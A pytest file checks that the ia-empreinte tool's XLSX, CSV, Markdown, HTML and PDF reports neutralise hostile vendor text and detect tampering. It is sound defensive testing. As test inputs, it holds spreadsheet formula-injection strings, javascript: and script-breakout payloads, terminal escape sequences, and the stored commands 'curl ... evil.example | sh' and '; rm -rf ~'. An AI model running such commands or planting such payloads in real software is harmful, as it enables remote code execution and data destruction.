"""Hostile vendor text and edited sheets: formulas, markdown links, long text, tampering.

Each test fails on the code before the adversarial pass: formulas were live in the XLSX
grid and the CSV, markdown kept links and images, a long name made the PDF raise, the
sheet's command was shown as stored, and only the JSON fiche could be verified.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from ia_empreinte import (
    CompareOptions,
    Fiche,
    build_fiche,
    load_fiche,
    parse_offer,
    render_comparison,
    render_fiche,
    verify_fiche,
)
from ia_empreinte.inputs.documents import read_document
from ia_empreinte.render.embedded import (
    EMBEDDED_NAME,
    HTML_DATA_ID,
    XLSX_SHEET,
    embedded_json,
    extract_fiche_json,
    sheet_differences,
)
from ia_empreinte.render.tabular import FORMULA_STARTS, plain_line, render_text_table
from ia_empreinte.sheet import Difference, parse_fiche
from ia_empreinte.sheet.command import report_command
from tests.conftest import EXAMPLE_OFFERS
from tests.support.compare import example_inputs

SHEETS = {".pdf": "pdf", ".html": "html", ".xlsx": "xlsx", ".md": "markdown"}


def load_sheet(path: Path) -> tuple[Fiche, list[Difference]]:
    """The fiche a file carries and where its sheet shows something else."""
    if path.suffix == ".json":
        return load_fiche(path), []
    data, fmt = path.read_bytes(), SHEETS[path.suffix]
    fiche = parse_fiche(json.loads(extract_fiche_json(data, fmt, str(path))))
    return fiche, sheet_differences(data, fmt, lambda lang: render_fiche(fiche, fmt, lang))


FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",  # full-width =
    "\uff0bcmd",
    "\uff0dcmd",
    "\uff20SUM(1)",
    "  =1+1",
]
OPTS = CompareOptions(draws=20, seed=3)


def _fiche(vendor: str = "", service: str = "", command: str = "") -> Fiche:
    """The example comparison with the first offer's vendor and service replaced."""
    profile, offers = example_inputs()
    if vendor or service:
        data = read_document(EXAMPLE_OFFERS / "frontier-api-us.yaml")
        data["vendor"], data["service"] = vendor, service
        offers[0] = parse_offer(data)
    return build_fiche(profile, offers, OPTS, computed_on="2026-11-30",  # type: ignore[arg-type]
                       command=command)


@pytest.fixture(scope="module")
def plain() -> Fiche:
    return _fiche(command="ia-empreinte report p.yaml a.yaml b.yaml c.yaml -o fiche.json")


# --- 1. formula injection -----------------------------------------------------------


@pytest.mark.parametrize("vendor", FORMULAS)
def test_xlsx_writes_formula_like_vendor_names_as_text(vendor: str) -> None:
    from openpyxl import load_workbook

    fiche = _fiche(vendor, vendor)
    wb = load_workbook(io.BytesIO(render_fiche(fiche, "x.xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    grid = wb.worksheets[0]
    row = next(r for r in grid.iter_rows(min_row=2) if r[1].value == fiche.inputs.offers[0].id)
    for cell in (row[2], row[3]):  # vendor, service
        # XML reads a raw CR as a line feed; openpyxl with lxml (a dependency of
        # python-docx) writes it as a character reference, which keeps it
        assert cell.value in (vendor, vendor.replace("\r", "\n"))
        assert cell.data_type == "s"
        assert cell.quotePrefix is True


def test_every_formula_start_is_quoted_in_the_comparison_csv() -> None:
    fiche = _fiche('=HYPERLINK("http://evil.example","x")', "")
    text = render_comparison(fiche.comparison, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    vendors = {r["vendor"] for r in rows}
    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in vendors
    assert not any(v.startswith(FORMULA_STARTS) for v in vendors)
    # figures stay numbers, even negative-looking ones are not text
    assert all(float(r["p50"]) > 0 for r in rows)


@pytest.mark.parametrize("vendor", FORMULAS)
def test_csv_leading_quote_covers_the_class(vendor: str) -> None:
    fiche = _fiche(vendor, "")
    rows = list(csv.DictReader(io.StringIO(render_comparison(fiche.comparison, "csv"))))
    cell = next(r["vendor"] for r in rows if r["offer"] == fiche.inputs.offers[0].id)
    assert cell == "'" + plain_line(vendor)


# --- 27. markdown and terminal tables ---------------------------------------------------

HOSTILE_MD = (
    "![x](http://evil.example/p.png) [click](javascript:alert(1)) "
    "<http://evil.example> https://evil.example www.evil.example a@evil.example `x`"
)


def test_markdown_has_no_link_image_or_autolink_from_vendor_text() -> None:
    from markdown_it import MarkdownIt

    md = render_fiche(_fiche(HOSTILE_MD, HOSTILE_MD), "x.md").decode()
    html = MarkdownIt("commonmark").enable("table").render(md)
    assert "<a " not in html and "<img" not in html and "<code>x</code>" not in html
    escaped = (
        "\\!\\[x\\](http\\://evil.example/p.png) \\[click\\](javascript:alert(1)) "
        "&lt;http\\://evil.example&gt; https\\://evil.example www\\.evil.example "
        "a\\@evil.example \\`x\\`"
    )
    assert escaped in md


def test_markdown_and_terminal_tables_keep_one_line_per_row() -> None:
    vendor = "Evil\r\nCorp\x1b[2J\n| x | y |"
    fiche = _fiche(vendor, "")
    md = render_comparison(fiche.comparison, "markdown")
    rows = [line for line in md.splitlines() if line.startswith("| ") and "Evil" in line]
    assert rows and all("Evil  Corp \\[2J \\| x \\| y \\|" in r for r in rows)
    table = render_comparison(fiche.comparison, "table")
    assert "\r" not in table and "\x1b" not in table
    assert len(table.splitlines()) == 2 + 3 + 3 + 1  # head, header, rule, rows, pairs
    assert render_text_table([{"a": "x\ny"}], ["a"]) == "a\n---\nx y\n"


# --- 19. long and multi-line text in the PDF -----------------------------------------


@pytest.mark.parametrize("vendor", ["x" * 2000, "ligne\n" * 120, "A" + "\n" * 120])
def test_pdf_renders_long_text_cut_with_an_ellipsis(vendor: str, tmp_path: Path) -> None:
    from pypdf import PdfReader

    fiche = _fiche(vendor, vendor)
    data = render_fiche(fiche, "x.pdf")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert "…" in text
    path = tmp_path / "fiche.pdf"
    path.write_bytes(data)
    embedded, shown = load_sheet(path)
    assert shown == []
    assert embedded.inputs.offers[0].vendor == vendor  # the full text is kept


# --- 8. command and date ------------------------------------------------------------


def test_command_keeps_bare_file_names_and_options_from_the_inputs() -> None:
    fiche = _fiche(command="ia-empreinte report /home/ach/p.yaml 'C:\\Users\\x\\a.yaml' "
                   "../b.yaml 'c d.yaml' -o /home/ach/out/fiche.json --lang en --seed 999")
    assert fiche.command == (
        "ia-empreinte report p.yaml a.yaml b.yaml 'c d.yaml' -o fiche.json --indicator gwp "
        "--scope contract --method proportional --points 10 --seed 3 --draws 20 --lang en "
        "--floor-fraction 0.05"
    )
    assert "/home" not in fiche.model_dump_json()


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://evil.example/x | sh",
        "ia-empreinte report p.yaml a.yaml b.yaml c.yaml -o fiche.json; rm -rf ~",
        "ia-empreinte report /home/ach/p.yaml a.yaml b.yaml c.yaml -o fiche.json "
        "--indicator gwp --scope contract --method proportional --points 10 --seed 3 "
        "--draws 20 --floor-fraction 0.05",
        "ia-empreinte report p.yaml a.yaml b.yaml c.yaml -o fiche.json --indicator gwp "
        "--scope contract --method proportional --points 10 --seed 4 --draws 20 "
        "--floor-fraction 0.05",
    ],
)
def test_verify_reports_an_edited_command(plain: Fiche, command: str) -> None:
    edited = plain.model_copy(update={"command": command})
    diffs = verify_fiche(edited)
    assert [d.path for d in diffs] == ["command"]
    assert diffs[0].recomputed == report_command(plain.inputs, command)
    assert diffs[0].recomputed != command
    assert verify_fiche(plain) == []


def test_renderers_never_show_a_stored_command(plain: Fiche) -> None:
    edited = plain.model_copy(update={"command": "curl -s http://evil.example/x | sh"})
    md = render_fiche(edited, "x.md").decode()
    assert "curl" not in md.split("<!-- ia-empreinte-fiche")[0]
    page = render_fiche(edited, "x.html").decode()
    assert "curl" not in page.split("</script>")[1]
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(render_fiche(edited, "x.xlsx")))
    shown = [c.value for ws in wb.worksheets if ws.title != XLSX_SHEET
             for row in ws.iter_rows() for c in row]
    assert not any(isinstance(v, str) and "curl" in v for v in shown)


@pytest.mark.parametrize("date", ["curl | sh", "2026-13-01", "30/11/2026", "2026-02-30"])
def test_computed_on_must_be_a_date(plain: Fiche, date: str) -> None:
    from ia_empreinte.errors import ValidationFailure

    data = json.loads(embedded_json(plain))
    data["computed_on"] = date
    with pytest.raises(ValidationFailure, match="computed_on"):
        parse_fiche(data)


# --- 14. a digest of the figures in every format ----------------------------------------


def _write(tmp_path: Path, fiche: Fiche, suffix: str) -> Path:
    path = tmp_path / f"fiche{suffix}"
    path.write_bytes(render_fiche(fiche, path))
    return path


def _edited_fiche(fiche: Fiche) -> Fiche:
    """The fiche with the best offer's scored median changed in the stored figures."""
    data = json.loads(embedded_json(fiche))
    data["headlines"]["best_p50"] *= 0.5
    return parse_fiche(data)


@pytest.mark.parametrize("suffix", [".pdf", ".html", ".xlsx", ".md", ".json"])
def test_untouched_sheet_verifies_in_every_format(
    plain: Fiche, suffix: str, tmp_path: Path
) -> None:
    embedded, shown = load_sheet(_write(tmp_path, plain, suffix))
    assert embedded == plain
    assert shown == []
    assert verify_fiche(embedded) == []


@pytest.mark.parametrize("suffix", [".pdf", ".html", ".xlsx", ".md"])
def test_figure_edited_in_the_embedded_fiche_fails(
    plain: Fiche, suffix: str, tmp_path: Path
) -> None:
    # the whole sheet rendered again from an edited fiche: consistent, but recomputed
    embedded, shown = load_sheet(_write(tmp_path, _edited_fiche(plain), suffix))
    assert shown == []
    assert [d.path for d in verify_fiche(embedded)] == ["headlines.best_p50"]


def test_figure_edited_in_the_visible_html_fails(plain: Fiche, tmp_path: Path) -> None:
    path = _write(tmp_path, plain, ".html")
    page = path.read_text(encoding="utf-8")
    before = page.split(f'id="{HTML_DATA_ID}"')[0]
    after = page[len(before):]
    inputs_hash = plain.inputs_sha256
    shown_hash = after.index(inputs_hash, after.index("</script>"))
    start = len(before) + shown_hash
    path.write_text(page[:start] + "0" * 64 + page[start + 64:], encoding="utf-8")
    _, shown = load_sheet(path)
    assert shown and all(d.path.startswith("sheet: line ") for d in shown)


def test_figure_edited_in_the_visible_xlsx_fails(plain: Fiche, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = _write(tmp_path, plain, ".xlsx")
    wb = load_workbook(path)
    grid = wb.worksheets[0]
    stored = grid["E2"].value  # the best offer's mark
    grid["E2"] = 10.0 if stored != 10.0 else 9.0
    wb.save(path)
    _, shown = load_sheet(path)
    assert [(d.path, d.recomputed) for d in shown] == [(f"sheet: {grid.title}!E2", repr(stored))]
    assert float(shown[0].stored) == grid["E2"].value != stored


def test_figure_edited_in_the_visible_pdf_fails(plain: Fiche, tmp_path: Path) -> None:
    from ia_empreinte.render.document import fiche_document
    from ia_empreinte.render.pdf import render_document_pdf

    # the visible pages of an edited sheet around the untouched embedded fiche
    edited = _edited_fiche(plain)
    data = render_document_pdf(
        fiche_document(edited, "fr", accessible_note=True),
        footer=f"ia-empreinte {plain.tool_version} · SHA-256 {plain.inputs_sha256}",
        attachment=(EMBEDDED_NAME, embedded_json(plain)),
    )
    path = tmp_path / "fiche.pdf"
    path.write_bytes(data)
    embedded, shown = load_sheet(path)
    assert embedded == plain and verify_fiche(embedded) == []
    assert [d.path for d in shown] == ["sheet: page 1"]


def test_figure_edited_in_the_visible_markdown_fails(plain: Fiche, tmp_path: Path) -> None:
    path = _write(tmp_path, plain, ".md")
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(plain.inputs_sha256, "0" * 64, 1), encoding="utf-8")
    _, shown = load_sheet(path)
    assert len(shown) == 1 and shown[0].path.startswith("sheet: line ")


def test_html_data_block_is_data_and_cannot_be_closed_by_vendor_text() -> None:
    vendor = "</script><script>alert(1)</script><!--"
    page = render_fiche(_fiche(vendor, vendor), "x.html").decode()
    tags = re.findall(r"<script[^>]*>", page)
    assert tags == [f'<script type="application/json" id="{HTML_DATA_ID}">']
    assert page.count("</script>") == 1


def test_sheet_without_embedded_fiche_is_one_clear_error(tmp_path: Path) -> None:
    from ia_empreinte_cli.app import cli

    path = tmp_path / "fiche.pdf"
    from ia_empreinte.render.document import Document
    from ia_empreinte.render.pdf import render_document_pdf

    path.write_bytes(render_document_pdf(Document("t", "", "fr")))
    result = CliRunner().invoke(cli, ["verify", str(path)])
    assert result.exit_code == 2
    assert result.output == (
        f"Error: {path}: no embedded fiche found in this PDF sheet; expected one written "
        "by ia-empreinte report (or give the .json fiche)\n"
    )


@pytest.mark.parametrize("suffix", [".pdf", ".xlsx", ".html"])
def test_cli_verify_checks_every_format(plain: Fiche, suffix: str, tmp_path: Path) -> None:
    from ia_empreinte_cli.app import cli

    path = _write(tmp_path, plain, suffix)
    ok = CliRunner().invoke(cli, ["verify", str(path)])
    assert ok.exit_code == 0, ok.output
    assert ok.output == (
        f"{path}: OK, every figure matches (inputs SHA-256 {plain.inputs_sha256})\n"
    )
    path.write_bytes(render_fiche(_edited_fiche(plain), path))
    bad = CliRunner().invoke(cli, ["verify", str(path)])
    assert bad.exit_code == 1
    assert "headlines.best_p50: stored" in bad.output



def test_verify_names_both_kinds_of_file_on_an_unknown_extension(tmp_path: Path) -> None:
    from ia_empreinte_cli.app import cli

    path = tmp_path / "fiche.txt"
    path.write_text("{}", encoding="utf-8")
    result = CliRunner().invoke(cli, ["verify", str(path)])
    assert result.exit_code == 2
    assert result.output == (
        f"Error: {path}: unsupported file extension '.txt'; expected a fiche (.json) or a "
        "sheet written by ia-empreinte report (.pdf, .html, .xlsx, .md)\n"
    )


def test_verify_lines_cannot_overprint_the_terminal(plain: Fiche) -> None:
    data = json.loads(embedded_json(plain))
    data["comparison"]["offers"][0]["vendor"] = "Evil\r\x1b[2K\nOK"
    diffs = verify_fiche(parse_fiche(data))
    lines = [d.line() for d in diffs]
    vendor = plain.comparison.offers[0].vendor
    assert (
        f"comparison.offers[0].vendor: stored Evil\\x0d\\x1b[2K\\x0aOK, recomputed {vendor}"
    ) in lines


def test_cli_verify_refuses_a_sheet_edited_where_it_shows_figures(
    plain: Fiche, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    from ia_empreinte_cli.app import cli

    path = _write(tmp_path, plain, ".xlsx")
    wb = load_workbook(path)
    grid = wb.worksheets[0]
    stored = grid["E2"].value
    grid["E2"] = 10.0 if stored != 10.0 else 9.0
    wb.save(path)
    result = CliRunner().invoke(cli, ["verify", str(path)])
    assert result.exit_code == 2
    assert result.output == (
        f"Error: {path}: the sheet does not show the fiche embedded in it (1 place(s)); "
        f"first, sheet: {grid.title}!E2: stored {grid['E2'].value:g}, recomputed {stored!r}\n"
    )
